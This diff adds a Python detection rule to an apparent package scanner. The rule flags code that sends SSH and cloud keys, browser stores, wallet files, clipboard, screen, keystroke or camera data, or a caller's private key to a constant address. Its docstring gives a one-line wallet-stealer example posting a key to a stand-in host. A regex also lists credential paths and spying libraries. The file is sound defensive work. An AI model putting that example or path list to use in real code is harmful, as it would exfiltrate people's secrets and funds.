@@ -1,0 +1,114 @@
+"""What it sees
+    The content of a file that holds credentials (`.ssh`, `.aws/credentials`, `/etc/passwd`, browser stores), the
+    clipboard, the screen, keystrokes or the camera in something that is sent away; and parameters called private
+    key, mnemonic or seed that leave for a constant address.
+
+Why it matters
+    No library needs to send these anywhere. The last shape is the typical wallet stealer: a helper that does what
+    it says and posts the key that it was given.
+
+Example
+    def sign(private_key): requests.post("https://collect.example.test/k", json={"k": private_key})
+
+What to do
+    Do not use it. Move funds from every wallet whose key went through it; rotate the credentials that it reads.
+
+False alarms
+    A client of a signing service sends keys to the address that its user configured: not a constant, not reported.
+
+References
+    ATT&CK T1552.004 (Private Keys), T1115 (Clipboard Data), T1113 (Screen Capture), T1056.001 (Keylogging), T1041.
+"""
+
+import re
+from collections.abc import Iterator
+
+from lazaretto.detect.pycode import Place, defanged, once, sendings
+from lazaretto.detect.rule import Match, Rule
+from lazaretto.model.finding import Confidence, Phase, Role, Severity
+from lazaretto.model.text import N_
+from lazaretto.parse.python import PythonModule
+
+_SENT = N_("sends {what} to {address}")
+_SENT_AWAY = N_("sends {what} away")
+_FILES = N_("searches folders for files and sends them to {address}")
+_KEY = N_("sends a secret that its caller gave it ({what}) to {address}")
+
+_HINTS = re.compile(
+    rb"\.ssh|id_rsa|\.aws|\.kube|\.git-cred|\.netrc|\.pypirc|/etc/passwd|/etc/shadow|[Kk]eychain"
+    rb"|Login Data|Web Data|Cookies|logins\.json|leveldb"
+    rb"|wallet|exodus|tdata|browser_cookie3|CryptUnprotect|keyring|pyperclip|lipboard|ImageGrab|screenshot|pynput|keyboard\.|VideoCapture|mss\."
+    rb"|priv(?:ate)?_?key|mnemonic|seed|listdir|os\.walk|keypair"
+)
+_WHAT = {
+    "secret:ssh": "SSH keys", "secret:cloud": "cloud keys", "secret:tokens": "stored tokens",
+    "secret:accounts": "the account list",
+    "secret:keychain": "the keychain", "secret:browser": "browser secrets", "secret:discord": "chat tokens",
+    "secret:wallet": "wallet files", "secret:telegram": "chat sessions", "secret:keyring": "the keyring",
+    "clip": "the clipboard", "screen": "the screen", "keys": "keystrokes", "camera": "the camera",
+}  # fmt: skip
+
+
+def check(view: PythonModule) -> Iterator[Match]:
+    """Yield sendings of secrets, one a line."""
+    if not view.speaks("net") or not _HINTS.search(view.blob.data):
+        return
+    seen: set[object] = set()
+    for sending in sendings(view):
+        if sending.place is Place.LOCAL:
+            continue
+        kinds = sorted(tag for tag in sending.tags if tag in _WHAT)
+        given = sorted(tag.removeprefix("param:") for tag in sending.tags if tag.startswith("param:"))
+        known = sending.place > Place.UNKNOWN
+        if sending.place is Place.DROP and {"file", "host:files"} <= sending.tags and once(seen, sending.call.line):
+            yield Match(
+                _FILES,
+                sending.call.line,
+                sending.call.column,
+                params={"address": defanged(sending.address)},
+                excerpt=view.quote(sending.call.line),
+                severity=Severity.LOW if view.is_test else Severity.HIGH,
+                phase=view.phase(sending.call.scope),
+            )
+        elif kinds and once(seen, sending.call.line):
+            sure = known or view.unasked(sending.call.scope)
+            yield Match(
+                _SENT if known else _SENT_AWAY,
+                sending.call.line,
+                sending.call.column,
+                params={"what": ", ".join(_WHAT[kind] for kind in kinds), "address": defanged(sending.address)},
+                excerpt=view.quote(sending.call.line),
+                severity=Severity.LOW if view.is_test else Severity.HIGH if sure else Severity.MEDIUM,
+                confidence=Confidence.HIGH if sure else Confidence.LOW,
+                phase=view.phase(sending.call.scope),
+            )
+        elif given and known and once(seen, sending.call.line):
+            vague = set(given) <= {"seed", "private", "pk", "secret_key", "keypair"}
+            yield Match(
+                _KEY,
+                sending.call.line,
+                sending.call.column,
+                params={"what": ", ".join(given), "address": defanged(sending.address)},
+                excerpt=view.quote(sending.call.line),
+                severity=Severity.LOW
+                if view.is_test
+                else Severity.MEDIUM
+                if vague and sending.place < Place.SHARED
+                else Severity.HIGH,
+                confidence=Confidence.LOW if vague and sending.place < Place.SHARED else Confidence.HIGH,
+                phase=view.phase(sending.call.scope),
+            )
+
+
+RULE = Rule(
+    id="py/secrets-sent",
+    title=N_("Sends secrets away"),
+    view=PythonModule,
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    phase=Phase.RUN,
+    role=Role.SEND,
+    check=check,
+    doc=__doc__ or "",
+    techniques=("T1552.004", "T1041", "T1115", "T1113", "T1056.001"),
+)
